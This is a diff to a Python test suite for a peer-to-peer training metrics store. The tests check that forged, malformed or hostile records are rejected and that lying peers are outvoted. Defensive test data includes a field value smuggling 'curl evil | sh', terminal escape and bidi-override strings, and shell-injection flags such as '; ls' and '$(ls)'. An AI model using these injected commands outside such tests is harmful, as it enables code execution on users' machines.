@@ -36,46 +36,37 @@ def peers():
 def test_reader_returns_only_valid_records(peers):
     (reader, writer, attacker, honest_subkey), attacker_key = peers, RSAPrivateKey()
     attacker_subkey = RSASignatureValidator(attacker_key).local_public_key
-    good = make_metrics().dict()
-    owned = MSGPackSerializer.dumps(attacker_subkey)
-    far, soon = get_dht_time() + MAX_RECORD_LIFETIME + 1000, get_dht_time() + 300
-    forged = DictionaryDHTValue()
-    forged.store(honest_subkey, MSGPackSerializer.dumps(good), soon)
-    attacks = {
-        "forged": (MSGPackSerializer.dumps(honest_subkey), MSGPackSerializer.dumps(good), soon),
-        "missing field": (owned, {name: value for name, value in good.items() if name != "loss"}, soon),
-        "unknown field": (owned, {**good, "more": 1}, soon),
-        "NaN": (owned, {**good, "loss": math.nan}, soon),
-        "infinity": (owned, {**good, "samples_per_second": math.inf}, soon),
-        "negative": (owned, {**good, "mini_steps": -1}, soon),
-        "epoch too large": (owned, {**good, "epoch": 10**9 + 1}, soon),
-        "absurd mean loss": (owned, {**good, "loss": 1e6}, soon),
-        "float for int": (owned, {**good, "epoch": 3.0}, soon),
-        "list": (owned, list(good.items()), soon),
-        "undecodable": (owned, b"\xc1\xc1", soon),
-        "immortal": (owned, good, far),
-        "no owner": (MSGPackSerializer.dumps(b"nobody"), good, soon),
-        "second subkey": (MSGPackSerializer.dumps(b"x" + attacker_subkey), good, soon),
+    good, dumps, key = make_metrics().dict(), MSGPackSerializer.dumps, f"{PREFIX}_metrics"
+    owned, soon, forged = dumps(attacker_subkey), get_dht_time() + 300, DictionaryDHTValue()
+    forged.store(honest_subkey, dumps(good), soon)
+    fields = {"NaN": {"loss": math.nan}, "infinity": {"samples_per_second": math.inf}, "negative": {"mini_steps": -1}}
+    fields |= {"epoch too large": {"epoch": 10**9 + 1}, "absurd mean loss": {"loss": 1e6}, "unknown field": {"more": 1}}
+    values = {name: good | changed for name, changed in {**fields, "float for int": {"epoch": 3.0}}.items()}
+    values["missing field"] = {name: value for name, value in good.items() if name != "loss"}
+    values |= {"list": list(good.items()), "undecodable": b"\xc1\xc1"}
+    attacks = {name: (owned, value, soon) for name, value in values.items()} | {
+        "forged": (dumps(honest_subkey), good, soon),
+        "immortal": (owned, good, soon + MAX_RECORD_LIFETIME + 700),
+        "no owner": (dumps(b"nobody"), good, soon),
+        "second subkey": (dumps(b"x" + attacker_subkey), good, soon),
         "no subkey": (DHTProtocol.IS_REGULAR_VALUE, good, soon),
         "no subkey, none": (DHTProtocol.IS_REGULAR_VALUE, None, soon),
         "forged, in a dictionary": (DHTProtocol.IS_DICTIONARY, forged, soon),
     }
-    key = f"{PREFIX}_metrics"
-    expiration_time = get_dht_time() + 300
-    assert writer.store(key, good, subkey=honest_subkey, expiration_time=expiration_time)
+    assert writer.store(key, good, subkey=honest_subkey, expiration_time=soon - 1)
     for name, (subkey, value, expires) in attacks.items():
-        value = value if isinstance(value, bytes) else MSGPackSerializer.dumps(value)
+        value = value if isinstance(value, bytes) else dumps(value)
         is_owned = subkey not in DHTProtocol.RESERVED_SUBKEYS
         signed = sign(attacker_key, key, subkey, value, expires) if is_owned else value
         for victim in (reader, writer):
             assert attack(attacker, victim, key, subkey, signed, expires) == [False], f"{name} was stored"
-        records = fetch_records(reader, PREFIX, timeout=20)
-        found = {label: metrics for label, (metrics, _) in records.items()}
+        found = {label: metrics for label, (metrics, _) in fetch_records(reader, PREFIX, timeout=20).items()}
         assert found == {peer_label(honest_subkey): make_metrics()}, name
     # the attacker's own record is stored if it is valid
-    value = sign(attacker_key, key, owned, MSGPackSerializer.dumps(good), soon)
+    value = sign(attacker_key, key, owned, dumps(good), soon)
     assert attack(attacker, reader, key, owned, value, soon) == [True]
     assert len(fetch_records(reader, PREFIX, timeout=20)) == 2
+    assert peer_label(b"[owner:ssh-rsa AAAA]") == "34c2b293"  # the same in each process
 
 
 def test_undecodable_value_stops_no_reader(peers):
@@ -116,38 +107,29 @@ def test_records_are_small():
 def test_contracts_are_bounded():
     prefix = make_prefix()
     validators, subkey = make_validators(prefix, schema=RunSchema)
-    expiration_time = get_dht_time() + 300
+    options = dict(subkey=subkey, exclude_self=True)  # the reader alone decides, because the writer keeps no copy
     with run_dhts(validators, make_validators(prefix, schema=RunSchema)[0]) as (writer, reader):
 
         def store(contract: dict | None, flags: str = "--seed 1 --learning_rate 3e-3 --overlap") -> bool:
             record = None if contract is None else {"joined": 1.0, "contract": contract, "flags": flags}
-            # the reader alone decides, because the writer keeps no copy
-            return writer.store(
-                f"{prefix}_run", record, subkey=subkey, expiration_time=expiration_time, exclude_self=True
-            )
+            return writer.store(f"{prefix}_run", record, expiration_time=get_dht_time() + 300, **options)
 
-        for contract in ({"": "x"}, {"a" * 65: "x"}, {"a": "x" * 201}, {"a": 1}, {str(i): "x" for i in range(33)}):
-            assert not store(contract)
         # a joining peer prints the terms of others: terminal controls, and text that imitates our lines
-        for contract in ({"a": "64\n run: curl evil | sh"}, {"\x1b[2J": "x"}, {"a": "\u202e46"}):
+        hostile = {"a": "64\n run: curl evil | sh"}, {"\x1b[2J": "x"}, {"a": "\u202e46"}
+        wide = {f"{i:064d}": "ä" * 200 for i in range(32)}, {str(i): "x" for i in range(33)}
+        for contract in ({"": "x"}, {"a" * 65: "x"}, {"a": "x" * 201}, {"a": 1}, *wide, *hostile):
             assert not store(contract)
         # people may paste the flags into a shell
         for flags in ("; ls", "--seed 1; ls", "--seed $(ls)", "--seed 1\n--fp16", "--seed 1 2", "--a /home/ada", "ls"):
             assert not store({"a": "1"}, flags)
-        assert not store({f"{i:064d}": "ä" * 200 for i in range(32)})
         contract = {f"{i:064d}": "x" * 200 for i in range(32)}
         assert store(contract)
         found = wait_until(lambda: reader.get(f"{prefix}_run", latest=True), 20, "the contract")
         assert RunContract.parse_obj(found.value[subkey].value).contract == contract
-        expiration_time += 1
         assert store(None)
-
-
-def test_dead_dht_gives_no_records():
-    prefix = make_prefix()
-    with run_dhts(make_validators(prefix)[0]) as (dht,):
-        dht.shutdown()
-        assert fetch_records(dht, prefix, timeout=1) == {}
+        # a dead DHT gives no records
+        reader.shutdown()
+        assert fetch_records(reader, prefix, timeout=1) == {}
 
 
 def test_aggregation_matches_hand_computed_values():
@@ -158,11 +140,9 @@ def test_aggregation_matches_hand_computed_values():
         ("stale", make_metrics(2, loss=900.0, mini_steps=1, samples_accumulated=1000)),
     ]
     metrics = aggregate_metrics(records)
-    assert metrics.epoch == 10
     assert metrics.loss == pytest.approx((20 + 12) / (4 + 1))  # weighted by mini-steps, without the stale peer
-    assert (metrics.alive_peers, metrics.samples, metrics.averaged_with) == (2, 128, 1)
-    assert metrics.samples_per_second == pytest.approx(20)
-    assert metrics.grad_norm == pytest.approx(2)
+    assert (metrics.epoch, metrics.alive_peers, metrics.samples, metrics.averaged_with) == (10, 2, 128, 1)
+    assert metrics.samples_per_second == pytest.approx(20) and metrics.grad_norm == pytest.approx(2)
     # medians of the seconds, which divide into parts; bytes of both
     assert (metrics.epoch_seconds, metrics.waiting_seconds, metrics.averaging_seconds) == (7.0, 1.0, 0.5)
     assert metrics.compute_seconds == pytest.approx(5.5)
@@ -171,13 +151,13 @@ def test_aggregation_matches_hand_computed_values():
     assert aggregate_metrics([("a", make_metrics(loss=0.0, mini_steps=0))]) is None
 
 
-@pytest.mark.parametrize("loss, mini_steps", [(0.0, 10**6), (1e9, 10**6), (0.0, 1), (5.5 * 10**6, 10**6)])
-def test_hostile_loss_is_outvoted(loss, mini_steps):
+def test_hostile_loss_is_outvoted():
     losses = {"a": 6.0, "b": 6.2, "c": 6.1}
     honest = [(name, make_metrics(10, loss=5 * mean, mini_steps=5)) for name, mean in losses.items()]
     assert aggregate_metrics(honest).loss == pytest.approx(6.1)
-    lie = ("liar", make_metrics(10, loss=loss, mini_steps=mini_steps))
-    assert aggregate_metrics([*honest, lie]).loss == pytest.approx(6.1, rel=0.05)
+    for loss, mini_steps in ((0.0, 10**6), (1e9, 10**6), (0.0, 1), (5.5 * 10**6, 10**6)):
+        lie = ("liar", make_metrics(10, loss=loss, mini_steps=mini_steps))
+        assert aggregate_metrics([*honest, lie]).loss == pytest.approx(6.1, rel=0.05)
 
 
 def test_absurd_epoch_hides_no_peer():
@@ -193,10 +173,6 @@ def test_absurd_epoch_hides_no_peer():
     assert filter_plausible_records(believable) == believable == honest
 
 
-def test_peer_label_is_deterministic():
-    assert peer_label(b"[owner:ssh-rsa AAAA]") == "34c2b293"
-
-
 def make_ids(kind: str, count: int) -> list[bytes]:
     return [b"\x12\x20" + hashlib.sha256(f"{kind}{number}".encode()).digest() for number in range(count)]
 
@@ -207,19 +183,18 @@ def name(peer_ids: list[bytes]) -> list[str]:
 
 def test_aggregation_counts_known_contributors(monkeypatch):
     honest, strangers, late = make_ids("honest", 3), make_ids("stranger", 2000), make_ids("late", 1)[0]
-    workers = ContributorRegistry()
-    assert workers.select({}) == set()
-    first = {peer_id: make_metrics(1, partners=name([p for p in honest if p != peer_id])) for peer_id in honest}
-    assert workers.select({honest[0]: first[honest[0]]}) == {honest[0]}  # the first to report
-    assert workers.select(first) == set(honest)
-    false = {peer_id: make_metrics(10**6, loss=0.0, partners=name(strangers)) for peer_id in strangers}
-    assert workers.select(first | false) == set(honest) == workers.present
 
-    # one of them lies and names untrusted peers; then two name a late peer
     def report(epoch: int, *partners: list[bytes]) -> dict:
         others = [[it for it in of if it != peer] for peer, of in zip(honest, partners, strict=True)]
         return {peer: make_metrics(epoch, partners=name(of)) for peer, of in zip(honest, others, strict=True)}
 
+    workers, first = ContributorRegistry(), report(1, honest, honest, honest)
+    assert workers.select({}) == set()
+    assert workers.select({honest[0]: first[honest[0]]}) == {honest[0]}  # the first to report
+    assert workers.select(first) == set(honest)
+    false = {peer_id: make_metrics(10**6, loss=0.0, partners=name(strangers)) for peer_id in strangers}
+    assert workers.select(first | false) == set(honest) == workers.present
+    # one of them lies and names untrusted peers; then two name a late peer
     second = report(2, honest, honest, [*honest, *strangers])
     assert workers.select(second | false | {late: make_metrics(2)}) == set(honest)
     third = report(3, [*honest, late], honest, strangers) | {late: make_metrics(3, partners=name(honest))}
@@ -231,10 +206,10 @@ def test_aggregation_counts_known_contributors(monkeypatch):
     group = {it: make_metrics(5, partners=name(keys if it in strangers else members)) for it in members}
     assert ContributorRegistry(members).select(group | {it: make_metrics(5) for it in keys}) == set(members)
     # the others have left: their last records do not keep out a new peer
-    fifth, new = {**fourth, late: make_metrics(9, partners=name(make_ids("new", 1)))}, make_ids("new", 1)[0]
-    assert workers.select(fifth | {new: make_metrics(9)}) == {*honest, late}
-    sixth = {**fourth, late: make_metrics(20, partners=name([new])), new: make_metrics(20)}
-    assert workers.select({late: sixth[late], new: sixth[new]}) == {late, new}
+    [new] = make_ids("new", 1)
+    fifth = {late: make_metrics(9, partners=name([new])), new: make_metrics(9)}
+    assert workers.select(fourth | fifth) == {*honest, late}
+    assert workers.select({late: make_metrics(20, partners=name([new])), new: make_metrics(20)}) == {late, new}
     # if none of them has finished an epoch for a while, any peer may start
     monkeypatch.setattr("training.figures.MIN_CONTRIBUTOR_TIMEOUT", -1.0)
     others = {peer_id: make_metrics(1, epoch_seconds=0.0) for peer_id in strangers[:2]}
